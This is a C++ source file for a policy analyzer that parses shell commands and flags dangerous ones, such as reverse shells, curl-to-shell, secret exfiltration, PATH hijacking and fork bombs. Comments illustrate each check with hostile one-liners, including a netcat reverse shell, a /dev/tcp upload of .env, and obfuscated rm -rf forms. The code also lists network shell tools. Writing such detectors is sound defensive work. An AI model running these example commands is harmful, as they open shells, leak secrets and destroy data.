#include "policy/analyzer.h"
#include "policy/policyreasons.h"
#include "policy/shellparser.h"

#include <QDir>
#include <QFileInfo>
#include <QRegularExpression>
#include <QVarLengthArray>

#include <utility>

namespace workbench::policy {

namespace {

bool isOption(const QString &value)
{
    return value.size() > 1 && value.startsWith(u'-');
}

QString optionName(const QString &value)
{
    if (value.startsWith(u"--")) {
        const qsizetype eq = value.indexOf(u'=');
        return eq > 0 ? value.left(eq) : value;
    }
    return value;
}

bool looksLikePath(const QString &value)
{
    if (value.isEmpty() || value.contains(QLatin1String("://")))
        return false;
    return value.startsWith(u'/') || value.startsWith(u'~') || value == u"." || value == u".."
           || value.startsWith(u"./") || value.startsWith(u"../") || value.contains(u'/');
}

// Replaces glob characters so a pattern can be placed like a path ("/tmp/*.log" -> "/tmp/x.log").
QString globStandIn(const QString &value)
{
    QString out;
    out.reserve(value.size());
    for (qsizetype i = 0; i < value.size(); ++i) {
        const QChar c = value[i];
        if (c == u'*' || c == u'?') {
            out += u'x';
        } else if (c == u'[') {
            const qsizetype close = value.indexOf(u']', i + 1);
            if (close > i) {
                out += u'x';
                i = close;
            } else {
                out += c;
            }
        } else {
            out += c;
        }
    }
    return out;
}

// > >> >| &> &>> on standard output (no descriptor, or 1).
bool writesStdout(const Redirect &redirect)
{
    const QString &op = redirect.op;
    return (op == u">" || op == u">>" || op == u">|" || op == u"&>" || op == u"&>>") && (redirect.fd == -1 || redirect.fd == 1);
}

// grep -l / -L / -rl, rg --files ...: the output is a list of file names, not matching lines. Short
// options may be clustered (-rl); the letters after one that takes a value are that value (-m1l).
bool printsFileNames(const QString &program, const QString &option)
{
    if (option == u"--files-with-matches" || option == u"--files-without-match" || option == u"--files")
        return true;
    if (option.size() < 2 || option[0] != u'-' || option[1] == u'-')
        return false;
    const QStringView valueLetters = program == u"rg" ? QStringView(u"efgtTmABCjMEr") : QStringView(u"efmABCdD");
    for (qsizetype k = 1; k < option.size(); ++k) {
        if (option[k] == u'l' || option[k] == u'L')
            return true;
        if (valueLetters.contains(option[k]) || program == u"ag")
            return false;
    }
    return false;
}

QString baseName(const QString &path)
{
    const qsizetype slash = path.lastIndexOf(u'/');
    return slash >= 0 ? path.mid(slash + 1) : path;
}

SourceSpan coverArgs(const QList<Arg> &args, SourceSpan fallback)
{
    if (args.isEmpty())
        return fallback;
    const qsizetype start = args.front().span.offset;
    const qsizetype end = args.back().span.offset + args.back().span.length;
    if (end < start)
        return fallback;
    return SourceSpan{start, end - start};
}

} // namespace

Analyzer::Analyzer(const RuleSet &rules, const PathGuard &guard, const QString &home)
    : m_rules(rules)
    , m_guard(guard)
    , m_home(home)
{
}

SourceSpan Analyzer::spanFor(SourceSpan span, const AnalysisContext &context) const
{
    return context.overrideSpans ? context.overrideSpan : span;
}

void Analyzer::add(const QString &code, Verdict verdict, RiskLevel risk, SourceSpan span, const QString &detail,
                   const AnalysisContext &context)
{
    // Bounded: a pathological command cannot make the finding list grow without limit.
    if (m_findings.size() > 512) {
        if (verdict != Verdict::Deny)
            return;
    }
    const SourceSpan where = spanFor(span, context);
    if (verdict == Verdict::RequiresApproval && code != u"custom_rule" && m_overlayAllowSpans.contains(where)) {
        verdict = Verdict::Allow;
        risk = qMin(risk, RiskLevel::Medium);
    }
    m_findings.append(Finding{code, verdict, risk, where, detail});
}

void Analyzer::addOutcome(const QString &outcome, SourceSpan span, const QString &detail, const AnalysisContext &context)
{
    const Outcome o = m_rules.outcome(outcome);
    add(o.code, o.verdict, o.risk, span, detail, context);
}

bool Analyzer::isKnownProgram(const QString &name) const
{
    return m_rules.programClass(name) != ProgramClass::Unknown || m_rules.wrapper(name) || m_rules.subcommands(name);
}

bool Analyzer::isDangerousProgram(const QString &name) const
{
    switch (m_rules.programClass(name)) {
    case ProgramClass::Destructive:
    case ProgramClass::Network:
    case ProgramClass::Privileged:
    case ProgramClass::Blocked:
    case ProgramClass::Interpreter:
    case ProgramClass::Shell:
    case ProgramClass::Eval:
    case ProgramClass::Source:
    case ProgramClass::ProcessControl:
        return true;
    default:
        return m_rules.wrapper(name) != nullptr && !m_rules.wrapper(name)->outcome.isEmpty();
    }
}

bool Analyzer::isHighlyDangerous(const QString &name) const
{
    switch (m_rules.programClass(name)) {
    case ProgramClass::Destructive:
    case ProgramClass::Network:
    case ProgramClass::Privileged:
    case ProgramClass::Blocked:
    case ProgramClass::Eval:
        return true;
    default:
        return false;
    }
}

Taint Analyzer::judgeShellText(const QString &text, SourceSpan span, const AnalysisContext &context, const QString &origin)
{
    Taint taint;
    if (context.depth + 1 > m_rules.maxWrapperDepth) {
        add(QStringLiteral("wrapper_depth_exceeded"), Verdict::RequiresApproval, RiskLevel::High, span, origin, context);
        return taint;
    }
    const ParseResult parsed = parseShell(text);
    if (!parsed.ok()) {
        add(QStringLiteral("invalid_command_syntax"), Verdict::Deny, RiskLevel::High, span, parsed.error, context);
        return taint;
    }
    AnalysisContext inner = context;
    inner.depth = context.depth + 1;
    inner.overrideSpans = true;
    inner.overrideSpan = spanFor(span, context);
    inner.text = text;
    return visit(*parsed.root, inner);
}

Taint Analyzer::visit(const Node &node, AnalysisContext &context)
{
    switch (node.kind) {
    case NodeKind::List:
        return visitList(node, context);
    case NodeKind::AndOr: {
        Taint taint;
        for (const auto &child : node.children)
            taint |= visit(*child, context);
        return taint;
    }
    case NodeKind::Pipeline:
        return visitPipeline(node, context);
    case NodeKind::Simple:
        return visitSimple(node, context);
    case NodeKind::Function:
        return visitFunction(node, context);
    default:
        break;
    }
    // Compound commands: redirections apply to the whole body.
    AnalysisContext inner = context;
    StdinSource input = context.input;
    Taint taint = handleRedirects(node.redirects, inner, input, false);
    inner.input = input;
    for (const auto &word : node.words)
        taint |= visitWordParts(word, inner);
    if (node.kind == NodeKind::For && !node.words.empty()) {
        // Bind the loop variable to the most telling static value (a path outside wins).
        QString chosen;
        bool allStatic = true;
        for (const auto &word : node.words) {
            const WordValue value = resolveWord(word, ResolveContext{m_home, inner.cwd, &m_variables});
            if (!value.isStatic) {
                allStatic = false;
                break;
            }
            const QString candidate = value.glob ? globStandIn(value.value) : value.value;
            if (chosen.isEmpty() || looksLikePath(candidate))
                chosen = candidate;
        }
        if (allStatic)
            m_variables.insert(node.name, chosen);
        else
            m_variables.remove(node.name);
    }
    for (const auto &child : node.children)
        taint |= visit(*child, inner);
    if (node.kind == NodeKind::Group)
        context.cwd = inner.cwd; // { cd x; } changes the caller's directory
    return taint;
}

Taint Analyzer::visitList(const Node &node, AnalysisContext &context)
{
    Taint taint;
    for (size_t i = 0; i < node.children.size(); ++i) {
        const Node &child = *node.children[i];
        const bool background = i < node.separators.size() && node.separators[i] == u"&";
        if (background) {
            m_background = true;
            add(QStringLiteral("background_process"), Verdict::RequiresApproval, RiskLevel::Medium, child.span,
                context.text.mid(child.span.offset, qMin<qsizetype>(child.span.length, 60)).toString(), context);
            AnalysisContext inner = context;
            taint |= visit(child, inner);
        } else {
            taint |= visit(child, context);
        }
    }
    return taint;
}

Taint Analyzer::visitPipeline(const Node &node, AnalysisContext &context)
{
    Taint upstream;
    // curl URL | sh -c 'cat | sh': the first stage passes what the outer pipe carries downstream.
    if (context.input.kind == StdinKind::Pipe || context.input.kind == StdinKind::HereDoc
        || context.input.kind == StdinKind::HereString) {
        upstream.network = context.input.taint.network;
        upstream.decoded = context.input.taint.decoded;
    }
    Taint all;
    for (size_t i = 0; i < node.children.size(); ++i) {
        AnalysisContext stage = context;
        if (i > 0) {
            stage.input.kind = StdinKind::Pipe;
            stage.input.taint = upstream;
            stage.input.taint.any = true;
            stage.input.text.clear();
            stage.input.textStatic = false;
            // echo/printf with static words: the text a shell would read is known, so judge it.
            const Node &previous = *node.children[i - 1];
            QString text;
            if (staticOutputText(previous, context, &text)) {
                stage.input.text = text;
                stage.input.textStatic = true;
                stage.input.span = previous.span;
            }
        }
        const Taint produced = visit(*node.children[i], stage);
        upstream |= produced;
        all |= produced;
        if (node.children.size() == 1)
            context.cwd = stage.cwd;
    }
    judgeReverseShell(node, context);
    return all;
}

void Analyzer::judgeReverseShell(const Node &pipeline, const AnalysisContext &context)
{
    // cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f: a shell reading its commands from stdin whose output
    // goes to a network program is a reverse shell.
    auto program = [&](const Node &stage) {
        if (stage.kind != NodeKind::Simple || stage.words.empty())
            return QString();
        const WordValue value = resolveWord(stage.words.front(), ResolveContext{m_home, context.cwd, &m_variables});
        return value.isStatic ? baseName(value.value) : QString();
    };
    bool bareShell = false;
    for (const auto &child : pipeline.children) {
        const QString name = program(*child);
        if (bareShell && (name == u"nc" || name == u"ncat" || name == u"netcat" || name == u"socat" || name == u"telnet"
                          || name == u"openssl")) {
            add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, pipeline.span, QStringLiteral("reverse shell"), context);
            return;
        }
        if (m_rules.programClass(name) != ProgramClass::Shell)
            continue;
        bool scriptless = true;
        for (size_t k = 1; k < child->words.size(); ++k) {
            const WordValue word = resolveWord(child->words[k], ResolveContext{m_home, context.cwd, &m_variables});
            if (!word.value.startsWith(u'-') || word.value.contains(u'c'))
                scriptless = false;
        }
        bareShell = bareShell || scriptless;
    }
}

Taint Analyzer::visitFunction(const Node &node, AnalysisContext &context)
{
    m_functions.insert(node.name);
    // A function that calls itself in a pipeline or in the background is a fork bomb.
    std::function<bool(const Node &, bool)> callsSelf = [&](const Node &n, bool forking) -> bool {
        if (n.kind == NodeKind::Simple && forking && !n.words.empty()) {
            const WordValue value = resolveWord(n.words.front(), ResolveContext{m_home, context.cwd, nullptr});
            if (value.value == node.name)
                return true;
        }
        for (size_t i = 0; i < n.children.size(); ++i) {
            const bool childForks = forking || n.kind == NodeKind::Pipeline
                                    || (n.kind == NodeKind::List && i < n.separators.size() && n.separators[i] == u"&");
            if (callsSelf(*n.children[i], childForks))
                return true;
        }
        return false;
    };
    if (!node.children.empty() && callsSelf(*node.children.front(), false)) {
        add(QStringLiteral("blocked_command_pattern"), Verdict::Deny, RiskLevel::High, node.span, QStringLiteral("fork bomb"), context);
    }
    AnalysisContext inner = context;
    Taint taint;
    for (const auto &child : node.children)
        taint |= visit(*child, inner);
    return taint;
}

Taint Analyzer::visitParts(const std::vector<WordPart> &parts, AnalysisContext &context)
{
    Taint taint;
    for (const auto &part : parts) {
        switch (part.kind) {
        case PartKind::CommandSubstitution:
        case PartKind::Backtick:
        case PartKind::ProcessSubstitutionIn:
        case PartKind::ProcessSubstitutionOut:
            if (part.command) {
                AnalysisContext inner = context;
                inner.input = StdinSource{};
                if (part.kind == PartKind::ProcessSubstitutionOut) {
                    // tee >(sh): the substitution reads what the command writes, i.e. its input.
                    inner.input.kind = StdinKind::Pipe;
                    inner.input.taint = context.input.taint;
                    inner.input.taint.any = true;
                }
                taint |= visit(*part.command, inner);
            }
            break;
        case PartKind::Parameter: {
            const auto it = m_variableTaint.constFind(part.text);
            if (it != m_variableTaint.constEnd())
                taint |= it.value();
            taint |= visitParts(part.parts, context);
            break;
        }
        case PartKind::DoubleQuoted:
        case PartKind::LocaleString:
        case PartKind::Arithmetic:
            taint |= visitParts(part.parts, context);
            break;
        case PartKind::ArrayLiteral:
            for (const auto &word : part.words)
                taint |= visitWordParts(word, context);
            break;
        default:
            break;
        }
    }
    return taint;
}

Taint Analyzer::visitWordParts(const Word &word, AnalysisContext &context)
{
    return visitParts(word.parts, context);
}

void Analyzer::collectParameters(const std::vector<WordPart> &parts, QStringList &names) const
{
    for (const auto &part : parts) {
        if (part.kind == PartKind::Parameter)
            names << part.text;
        if (!part.parts.empty())
            collectParameters(part.parts, names);
    }
}

Arg Analyzer::makeArg(const Word &word, const AnalysisContext &context, const Taint &taint)
{
    Arg arg;
    arg.info = resolveWord(word, ResolveContext{m_home, context.cwd, &m_variables});
    arg.value = arg.info.value;
    arg.alternatives = arg.info.alternatives;
    arg.span = word.span;
    arg.taint = taint;
    // Most words are plain literals whose source text is their value: share it instead of a copy.
    const QStringView raw = QStringView(context.text).mid(word.span.offset, word.span.length);
    arg.raw = raw == arg.value ? arg.value : raw.toString();
    collectParameters(word.parts, arg.parameters);
    if (m_ifsChanged && !arg.parameters.isEmpty()) {
        arg.info.isStatic = false;
        arg.info.ifs = true;
    }
    // An unquoted variable whose value holds blanks is split by the shell: X="rm -rf"; $X /
    if (arg.info.fromVariable && arg.info.isStatic && arg.value.contains(u' ')) {
        bool quotedParameter = false;
        for (const auto &part : word.parts)
            quotedParameter = quotedParameter || part.kind == PartKind::DoubleQuoted;
        if (!quotedParameter)
            arg.info.isStatic = false;
    }
    return arg;
}

Taint Analyzer::handleRedirects(const std::vector<Redirect> &redirects, AnalysisContext &context, StdinSource &input,
                                bool shellLike, bool *networkOutput, bool truncatesOnly)
{
    Taint taint;
    for (const Redirect &redirect : redirects) {
        taint |= visitWordParts(redirect.target, context);
        const QString &op = redirect.op;
        if (redirect.hereDoc) {
            const HereDoc &doc = *redirect.hereDoc;
            Taint bodyTaint = doc.quoted ? Taint{} : visitWordParts(doc.expansions, context);
            input.kind = StdinKind::HereDoc;
            input.taint = bodyTaint;
            input.text = doc.body;
            input.textStatic = doc.quoted || [&] {
                for (const auto &part : doc.expansions.parts) {
                    if (part.kind != PartKind::Literal)
                        return false;
                }
                return true;
            }();
            input.span = doc.bodySpan.length > 0 ? doc.bodySpan : redirect.span;
            continue;
        }
        const Arg target = makeArg(redirect.target, context, taint);
        if (op == u"<<<") {
            input.kind = StdinKind::HereString;
            input.taint = target.taint;
            input.text = target.value;
            input.textStatic = target.info.isStatic;
            input.span = redirect.target.span;
            continue;
        }
        if ((op == u">&" || op == u"<&") && (target.value == u"-" || (!target.value.isEmpty() && target.value.toInt() >= 0 && target.value.at(0).isDigit()))) {
            // Descriptor duplication; reading a descriptor opened on /dev/tcp reads the network.
            if (m_networkFds.contains(target.value.toInt())) {
                taint.network = true;
                // exec 3<>/dev/tcp/host/80; cat .env >&3: output duplicated onto a network descriptor.
                if (networkOutput && op == u">&" && redirect.fd != 0)
                    *networkOutput = true;
                if (shellLike)
                    add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, redirect.span, target.value, context);
                if (op == u"<&" && (redirect.fd <= 0)) {
                    input.kind = StdinKind::Pipe;
                    input.taint.network = true;
                    input.taint.any = true;
                }
            }
            continue;
        }
        OperandRole role = OperandRole::Overwrite;
        if (op == u"<") {
            role = OperandRole::Read;
        } else if (op == u">>" || op == u"&>>") {
            role = OperandRole::Write;
        } else if (op == u"<>") {
            role = OperandRole::Write;
        }
        if (!target.isDynamic()) {
            const PathInfo info = m_guard.classify(target.value, context.cwd);
            if (info.zone == PathZone::Network) {
                taint.network = true;
                if (redirect.fd >= 0)
                    m_networkFds.insert(redirect.fd);
                if (networkOutput && op != u"<")
                    *networkOutput = true;
                if (shellLike) {
                    add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, redirect.span, target.value, context);
                } else {
                    add(QStringLiteral("network_command"), Verdict::RequiresApproval, RiskLevel::High, redirect.span, target.value, context);
                }
                if (op == u"<" || op == u"<>") {
                    input.kind = StdinKind::Pipe;
                    input.taint.network = true;
                    input.taint.any = true;
                }
                continue;
            }
        }
        Arg located = target;
        if (truncatesOnly && role == OperandRole::Overwrite && target.info.isStatic) {
            // "> file" or ": > file" empties an existing file: destructive even inside.
            const PathInfo info = m_guard.classify(target.value, context.cwd);
            if ((info.zone == PathZone::Inside) && info.exists && !info.isDir)
                add(QStringLiteral("destructive_command"), Verdict::RequiresApproval, RiskLevel::High, redirect.span, target.value, context);
        }
        checkPath(located, target.value, role, context, taint, true);
        if (op == u"<") {
            input.kind = target.info.processSubstitution ? StdinKind::Pipe : StdinKind::File;
            input.filePath = target.value;
            input.span = redirect.target.span;
            input.taint = taint;
            input.taint.any = true;
            input.textStatic = false;
        }
    }
    return taint;
}

bool Analyzer::isBenignProgramLine(const QString &commandLine, bool shellIsBenign) const
{
    // git and most tools hand these values to `sh -c`: any shell syntax could run something else.
    static const QString shellSyntax = QStringLiteral(";|&$`<>()'\"\\*?[]{}~!#\n\r");
    for (const QChar c : commandLine) {
        if (shellSyntax.contains(c))
            return false;
    }
    static thread_local const QRegularExpression blanks(QStringLiteral("[ \t]+"));
    const QStringList words = commandLine.split(blanks, Qt::SkipEmptyParts);
    if (words.isEmpty())
        return false;
    const QString program = baseName(words.front());
    if (!m_rules.envBenignPrograms.contains(program))
        return false;
    // /tmp/x/less is not less: a path must be one of the standard program directories.
    if (words.front().contains(u'/') && !m_rules.standardBinDirs.contains(QDir::cleanPath(words.front().section(u'/', 0, -2))))
        return false;
    // A shell runs its arguments (sh -c id) or its input; only listed options of other programs pass.
    if (m_rules.programClass(program) == ProgramClass::Shell)
        return shellIsBenign && words.size() == 1;
    if (words.size() == 1)
        return true;
    const QSet<QString> allowed = m_rules.envBenignProgramOptions.value(program);
    for (qsizetype i = 1; i < words.size(); ++i) {
        const QString &word = words[i];
        if (allowed.contains(word))
            continue;
        // -FRX is -F -R -X when every letter is an allowed single-letter option.
        if (word.size() < 3 || !word.startsWith(u'-') || word.startsWith(QLatin1String("--")))
            return false;
        for (qsizetype c = 1; c < word.size(); ++c) {
            if (!word[c].isLetter() || !allowed.contains(QStringLiteral("-") + word[c]))
                return false;
        }
    }
    return true;
}

bool Analyzer::isProjectBinDirectory(const QString &component, const AnalysisContext &context) const
{
    // PATH="$PWD/node_modules/.bin:$PATH" or "$HOME/.cargo/bin:$PATH": the programs it shadows are the
    // workspace's own (as ./scripts/x is, project_script) or a tool cache's, which run allowed anyway.
    // Relative entries follow later `cd`s, so only absolute ones qualify.
    if (!component.startsWith(u'/'))
        return false;
    const PathInfo info = m_guard.classify(component, context.cwd);
    if (info.secret || info.persistence)
        return false;
    return info.zone == PathZone::Inside || info.zone == PathZone::WorkspaceRoot || info.zone == PathZone::ToolCache;
}

void Analyzer::checkEnvAssignment(const QString &name, const Word &valueWord, const WordValue &value, SourceSpan span,
                                  const AnalysisContext &context)
{
    auto hijack = [&] {
        add(QStringLiteral("environment_hijack"), Verdict::Deny, RiskLevel::High, span, name, context);
    };
    if (m_rules.envHijackAlways.contains(name)) {
        if (!(value.isStatic && value.value.isEmpty()))
            hijack();
        return;
    }
    for (const QString &prefix : m_rules.envHijackPrefixes) {
        if (name.startsWith(prefix)) {
            hijack();
            return;
        }
    }
    if (m_rules.envProgramValued.contains(name)) {
        if (!value.isStatic || !isBenignProgramLine(value.value.trimmed(), name == u"SHELL"))
            hijack();
        return;
    }
    const auto options = m_rules.envOptionLists.constFind(name);
    if (options != m_rules.envOptionLists.constEnd()) {
        if (!value.isStatic) {
            hijack();
            return;
        }
        for (const QString &marker : options.value()) {
            if (value.value.contains(marker)) {
                hijack();
                return;
            }
        }
        return;
    }
    const bool pathVariable = m_rules.envPathVariables.contains(name);
    const bool workspaceList = m_rules.envWorkspacePathLists.contains(name);
    if (!pathVariable && !workspaceList)
        return;
    // Rebuild the value with inherited $NAME references marked, then check each component.
    QString text;
    std::function<void(const std::vector<WordPart> &)> flatten = [&](const std::vector<WordPart> &parts) {
        for (const auto &part : parts) {
            if (part.kind == PartKind::Parameter && part.text == name && !part.complexParameter)
                text += QChar(0x1);
            else if (part.kind == PartKind::Parameter && part.text == u"PWD" && !part.complexParameter && !context.cwd.isEmpty()
                     && !m_variables.contains(QStringLiteral("PWD")))
                text += context.cwd; // "$PWD/node_modules/.bin": the cwd the engine tracks
            else if (part.kind == PartKind::Parameter && part.text == u"HOME" && !part.complexParameter
                     && !m_variables.contains(QStringLiteral("HOME")))
                text += m_home;
            else if (part.kind == PartKind::DoubleQuoted)
                flatten(part.parts);
            else if (part.kind == PartKind::Parameter || part.kind == PartKind::CommandSubstitution || part.kind == PartKind::Backtick)
                text += QChar(0x2);
            else if (part.kind == PartKind::Tilde)
                text += part.text.isEmpty() ? m_home : QStringLiteral("/home/") + part.text;
            else
                text += part.text;
        }
    };
    flatten(valueWord.parts);
    if (valueWord.parts.empty()) {
        // Only the resolved text is known (export NAME=value): an empty component is the inherited value.
        text = value.value;
        if (text.startsWith(u':') || text.isEmpty())
            text.prepend(QChar(0x1));
        else if (text.endsWith(u':'))
            text.append(QChar(0x1));
    }
    for (const QString &component : text.split(u':')) {
        if (component == QString(QChar(0x1)))
            break; // what follows the inherited value cannot shadow existing programs
        if (component.isEmpty())
            continue;
        if (component.contains(QChar(0x2))) {
            hijack();
            return;
        }
        if (pathVariable) {
            if (!m_rules.standardBinDirs.contains(QDir::cleanPath(component))) {
                if (isProjectBinDirectory(component, context))
                    continue;
                hijack();
                return;
            }
        } else {
            const PathInfo info = m_guard.classify(component, context.cwd);
            if (info.zone != PathZone::Inside && info.zone != PathZone::WorkspaceRoot && !m_rules.standardBinDirs.contains(QDir::cleanPath(component))
                && !component.startsWith(QLatin1String("/usr/")) && !component.startsWith(QLatin1String("/opt/"))) {
                hijack();
                return;
            }
        }
    }
}

Taint Analyzer::visitSimple(const Node &node, AnalysisContext &context)
{
    Taint total;
    QVarLengthArray<Taint, 16> wordTaints;
    wordTaints.reserve(qsizetype(node.words.size()));
    for (const auto &word : node.words) {
        const Taint t = visitWordParts(word, context);
        wordTaints.append(t);
        total |= t;
    }

    // Assignments: VAR=value prefixes (environment of the command) or plain shell variables.
    for (const auto &assignment : node.assignments) {
        const Taint t = visitWordParts(assignment, context);
        total |= t;
        Word valueWord = assignment;
        QString name;
        if (!valueWord.parts.empty()) {
            QString &first = valueWord.parts.front().text;
            const qsizetype eq = first.indexOf(u'=');
            name = first.left(eq);
            if (name.endsWith(u'+'))
                name.chop(1);
            const qsizetype bracket = name.indexOf(u'[');
            if (bracket > 0)
                name = name.left(bracket);
            first = first.mid(eq + 1);
            if (first.isEmpty())
                valueWord.parts.erase(valueWord.parts.begin());
        }
        const WordValue value = resolveWord(valueWord, ResolveContext{m_home, context.cwd, &m_variables});
        checkEnvAssignment(name, valueWord, value, assignment.span, context);
        if (node.words.empty()) {
            if (value.isStatic && !value.glob)
                m_variables.insert(name, value.value);
            else
                m_variables.remove(name);
            recordArray(name, valueWord, context);
            if (t.network || t.decoded || t.secret || t.envDump)
                m_variableTaint.insert(name, t);
            else
                m_variableTaint.remove(name);
            if (name == u"IFS")
                m_ifsChanged = true;
            if (name == u"IFS" && !value.isStatic)
                add(QStringLiteral("obfuscated_command"), Verdict::RequiresApproval, RiskLevel::Medium, assignment.span, QStringLiteral("IFS"), context);
        }
    }

    QList<Arg> args;
    args.reserve(qsizetype(node.words.size()));
    for (size_t i = 0; i < node.words.size(); ++i)
        args << makeArg(node.words[i], context, wordTaints[qsizetype(i)]);

    bool shellLike = false;
    if (!args.isEmpty() && args.front().info.isStatic) {
        const QString program = baseName(args.front().value);
        const ProgramClass cls = m_rules.programClass(program);
        shellLike = cls == ProgramClass::Shell || cls == ProgramClass::Interpreter;
    }
    StdinSource input = context.input;
    AnalysisContext commandContext = context;
    bool networkOutput = false;
    bool truncatesOnly = args.isEmpty();
    if (!args.isEmpty() && args.front().info.isStatic) {
        const QString &program = args.front().value;
        truncatesOnly = program == u":" || program == u"true" || program == u"false"
                        || (program == u"cat" && args.size() == 2 && args[1].value == u"/dev/null")
                        || (program == u"echo" && args.size() == 2 && args[1].value == u"-n");
    }
    total |= handleRedirects(node.redirects, commandContext, input, shellLike, &networkOutput, truncatesOnly);
    commandContext.input = input;

    if (args.isEmpty())
        return total;
    // Brace expansion in the command position produces several words: {rm,-rf,/}.
    if (args.front().info.brace && args.front().alternatives.size() > 1 && args.front().info.isStatic) {
        const Arg braced = args.takeFirst();
        QList<Arg> expanded;
        for (const QString &alternative : braced.alternatives) {
            Arg piece = braced;
            piece.value = alternative;
            piece.alternatives.clear();
            piece.info.brace = false;
            expanded << piece;
        }
        add(QStringLiteral("obfuscated_command"), isDangerousProgram(expanded.front().value) ? Verdict::Deny : Verdict::RequiresApproval,
            RiskLevel::High, braced.span, braced.raw, context);
        args = expanded + args;
    }
    spliceArray(args);
    judgeEndlessOutput(args, node, context);
    const QString program = args.front().value;
    // Moved: judgeCommand rewrites the first word, and a shared list would be deep-copied for that.
    const Taint produced = judgeCommand(std::move(args), commandContext, node.span);
    total |= produced;
    QString knownText;
    const bool textKnown = staticOutputText(node, context, &knownText);
    if (!produced.network && !produced.decoded && !textKnown)
        recordGeneratedFiles(node, context);
    if (produced.network || (produced.decoded && !textKnown)) {
        // curl URL > build/i.sh: the file now holds downloaded data (base64 -d > f: decoded data, run as code later
        // is fetch_and_execute as well).
        for (const QString &file : stdoutFiles(node, context))
            m_fetchedFiles.insert(file);
    }
    recordWrittenScript(node, context);
    if (produced.secret || produced.envDump || commandContext.input.taint.secret || commandContext.input.taint.envDump) {
        // env > build/env.txt, cat .env > /tmp/e: the file now holds the secret; uploading it later is exfiltration.
        for (const QString &file : stdoutFiles(node, context))
            m_secretFiles.insert(file);
    }
    context.cwd = commandContext.cwd;
    if (networkOutput && (total.secret || total.envDump || commandContext.input.taint.secret || commandContext.input.taint.envDump))
        add(QStringLiteral("secret_exfiltration"), Verdict::Deny, RiskLevel::High, node.span, program, context);
    return total;
}

void Analyzer::judgeDefaultKeyFile(const QList<Arg> &args, const AnalysisContext &context, SourceSpan span)
{
    // ssh-keygen without -f generates (or with -p re-encrypts) ~/.ssh/id_<type>: judged as if that file
    // were named, as `ssh-keygen -f ~/.ssh/id_ed25519` is. Query modes (-l, -y, -F, -R ...) write no key.
    static const QString queryLetters = QStringLiteral("lyFRHLQkrBeiDsYAGTM");
    static const QString valueLetters = QStringLiteral("tCNbaZmOnIVzwPfEJjKS");
    QString type = QStringLiteral("ed25519");
    for (qsizetype i = 1; i < args.size(); ++i) {
        const QString &value = args[i].value;
        if (!isOption(value) || value.startsWith(u"--"))
            continue;
        for (qsizetype k = 1; k < value.size(); ++k) {
            const QChar letter = value[k];
            if (letter == u'f' || queryLetters.contains(letter) || !args[i].info.isStatic)
                return;
            if (valueLetters.contains(letter)) {
                const QString optionValue = k + 1 < value.size() ? value.mid(k + 1) : (i + 1 < args.size() ? args[i + 1].value : QString());
                if (letter == u't' && !optionValue.isEmpty())
                    type = optionValue.toLower();
                if (k + 1 == value.size())
                    ++i;
                break;
            }
        }
    }
    const QString keyFile = m_home + QStringLiteral("/.ssh/id_") + type;
    if (m_guard.classify(keyFile, context.cwd).secret)
        add(QStringLiteral("credential_access"), Verdict::Deny, RiskLevel::High, span, keyFile, context);
}

bool Analyzer::installsOutsideWorkspace(const QString &name, const QList<Arg> &args, const AnalysisContext &context) const
{
    // Build drivers whose "install" target copies the build into the system (/usr/local by default).
    static const QSet<QString> drivers = {QStringLiteral("make"), QStringLiteral("gmake"), QStringLiteral("ninja"), QStringLiteral("samu"),
                                          QStringLiteral("meson"), QStringLiteral("cmake"), QStringLiteral("scons")};
    if (!drivers.contains(name))
        return false;
    bool install = false;
    bool staged = false;
    const auto stagedAt = [&](const QString &path) {
        const PathInfo info = m_guard.classify(path, context.cwd);
        return info.zone == PathZone::Inside || info.zone == PathZone::WorkspaceRoot;
    };
    for (qsizetype i = 1; i < args.size(); ++i) {
        const Arg &arg = args[i];
        if (!arg.info.isStatic)
            continue;
        const QString &value = arg.value;
        const QString *next = i + 1 < args.size() && args[i + 1].info.isStatic ? &args[i + 1].value : nullptr;
        if (value == u"install" || value == u"--install" || value == u"--target=install" || value == u"install/strip"
            || ((value == u"--target" || value == u"-t") && next && *next == u"install"))
            install = true;
        // DESTDIR=stage make install, cmake --install build --prefix stage, meson install --destdir stage
        for (const QLatin1String variable : {QLatin1String("DESTDIR="), QLatin1String("PREFIX="), QLatin1String("prefix="),
                                                 QLatin1String("--prefix="), QLatin1String("--destdir=")}) {
            if (value.startsWith(variable) && value.size() > variable.size() && stagedAt(value.mid(variable.size())))
                staged = true;
        }
        if ((value == u"--prefix" || value == u"--destdir") && next && stagedAt(*next))
            staged = true;
    }
    return install && !staged;
}

void Analyzer::recordArray(const QString &name, const Word &valueWord, const AnalysisContext &context)
{
    // arr=(rm -rf ~): the elements, when every one is static, for a later "${arr[@]}" in command position.
    m_arrays.remove(name);
    if (valueWord.parts.size() != 1 || valueWord.parts.front().kind != PartKind::ArrayLiteral)
        return;
    QStringList elements;
    for (const Word &element : valueWord.parts.front().words) {
        const WordValue value = resolveWord(element, ResolveContext{m_home, context.cwd, &m_variables});
        if (!value.isStatic || value.glob)
            return;
        elements << value.value;
    }
    m_arrays.insert(name, elements);
}

void Analyzer::spliceArray(QList<Arg> &args) const
{
    // "${arr[@]}" or "$@" (after set -- ...) as the command: it runs the recorded words. A program spelled
    // this way is hidden like X=rm; $X, so the words count as coming from a variable.
    if (args.isEmpty() || m_arrays.isEmpty())
        return;
    static thread_local const QRegularExpression whole(QStringLiteral("^\"?\\$(?:\\{([A-Za-z_][A-Za-z0-9_]*)\\[[@*]\\]\\}|([@*])|\\{([@*])\\})\"?$"));
    const QRegularExpressionMatch match = whole.match(args.front().raw);
    if (!match.hasMatch())
        return;
    QString name = match.captured(1);
    if (name.isEmpty())
        name = QStringLiteral("@");
    const auto it = m_arrays.constFind(name);
    if (it == m_arrays.constEnd() || it->isEmpty())
        return;
    const Arg like = args.takeFirst();
    QList<Arg> spliced;
    for (const QString &element : *it) {
        Arg piece = like;
        piece.value = element;
        piece.info = WordValue{};
        piece.info.value = element;
        piece.info.fromVariable = true;
        piece.parameters.clear();
        spliced << piece;
    }
    args = spliced + args;
}

void Analyzer::judgeEndlessOutput(const QList<Arg> &args, const Node &node, const AnalysisContext &context)
{
    // yes > f, cat /dev/zero > f, seq inf > f: output without end written to a file fills the disk.
    if (args.isEmpty() || !args.front().info.isStatic)
        return;
    const QString program = baseName(args.front().value);
    bool endless = program == u"yes";
